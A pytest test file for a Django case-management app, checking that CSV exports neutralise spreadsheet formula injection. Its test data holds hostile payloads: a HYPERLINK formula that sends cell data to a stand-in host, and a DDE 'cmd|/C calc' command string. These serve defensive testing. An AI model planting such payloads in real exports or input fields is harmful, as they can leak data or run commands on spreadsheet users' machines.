"""Spreadsheet downloads write text that a spreadsheet would run as plain text (CSV injection)."""

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone

from conftest import open_case
from stride.core import spreadsheets
from stride.core.audit import Actor
from stride.participation import actions as participation
from stride.participation.countable import add_months
from stride.resources import actions as resources
from stride.resources import hsds
from stride.resources.models import Provider

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://example.test/?"&B2,"Open")'
STRIDE = Path(__file__).resolve().parents[2]
# Files that may write CSV themselves: the one writer, and the HSDS data package, which is
# read by other directory systems and must come back from an import byte for byte.
CSV_WRITERS = {"core/spreadsheets.py", "resources/hsds/exporting.py"}


def rows_of(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def cells(response) -> set[str]:
    return {cell for row in rows_of(response) for cell in row}


@pytest.mark.parametrize(
    "text",
    [HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1", "\r=1", "\0=1"],
)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert spreadsheets.cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Maria", "", "O'Brien", "a=b", "2026-01-31", " =1"])
def test_other_text_is_left_alone(text):
    assert spreadsheets.cell(text) == text


def test_numbers_and_dates_stay_numbers_and_dates():
    values = [-12.5, Decimal("-3.25"), -4, 0, None, date(2026, 1, 31)]
    assert [spreadsheets.cell(value) for value in values] == values
    line = next(spreadsheets.lines([values]))
    assert line == "-12.5,-3.25,-4,0,,2026-01-31\r\n"


def test_the_caseload_export_writes_a_hostile_first_name_as_text(world, client_for):
    open_case(world.coach, "FR0000009", world.county, world.program, world.coach, HOSTILE)
    response = client_for(world.coach).get(reverse("people:caseload_export"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "'" + HOSTILE in cells(response)
    assert HOSTILE not in cells(response)


def test_the_acf199_items_write_a_hostile_name_as_text(world, client_for):
    hostile = open_case(
        world.coach, "FR0000009", world.county, world.program, world.coach, HOSTILE, "-Lopez"
    )
    participation.record_months_on_aid(hostile, timezone.localdate())
    month = add_months(timezone.localdate().replace(day=1), -1)
    url = reverse("participation:report")
    response = client_for(world.supervisor).get(
        url, {"county": world.county.pk, "month": f"{month:%Y-%m}", "format": "csv"}
    )
    row = next(row for row in rows_of(response) if row[1] == "FR0000009")
    assert row[2:4] == ["'" + HOSTILE, "'-Lopez"]


def test_the_gap_view_csv_writes_hostile_service_and_organisation_names_as_text(world, client_for):
    # Directory text often arrives in an HSDS file from outside the county.
    provider = Provider.objects.create(county=world.county, hsds_id="org-9", name="@SUM(1,1)")
    details = resources.ServiceDetails(HOSTILE, "adult_education", fits=("no_diploma",))
    resources.add_service(Actor(world.county_admin), provider, details)
    response = client_for(world.county_admin).get(reverse("resources:gaps"), {"format": "csv"})
    assert isinstance(response, spreadsheets.SpreadsheetResponse)
    unused = next(row for row in rows_of(response) if row and row[0].endswith(HOSTILE))
    assert unused[:2] == ["'" + HOSTILE, "'@SUM(1,1)"]


def test_the_hsds_package_keeps_the_same_text_for_the_next_import(world):
    provider = Provider.objects.create(county=world.county, hsds_id="org-9", name="@SUM(1,1)")
    details = resources.ServiceDetails(HOSTILE, "adult_education", fits=("no_diploma",))
    resources.add_service(Actor(world.county_admin), provider, details)
    tables = hsds.read_package(hsds.export_zip(world.county), "fresno.zip")
    assert {row["name"] for row in tables["services"]} == {HOSTILE}
    assert {row["name"] for row in tables["organizations"]} == {"@SUM(1,1)"}


def test_no_file_writes_csv_but_the_spreadsheets_module():
    writes_csv = re.compile(r"csv\.(writer|DictWriter)\b|text/csv")
    found = {
        str(path.relative_to(STRIDE))
        for path in STRIDE.rglob("*.py")
        if "tests" not in path.relative_to(STRIDE).parts
        and writes_csv.search(path.read_text(encoding="utf-8"))
    }
    assert found == CSV_WRITERS, "write CSV downloads with stride.core.spreadsheets.download"
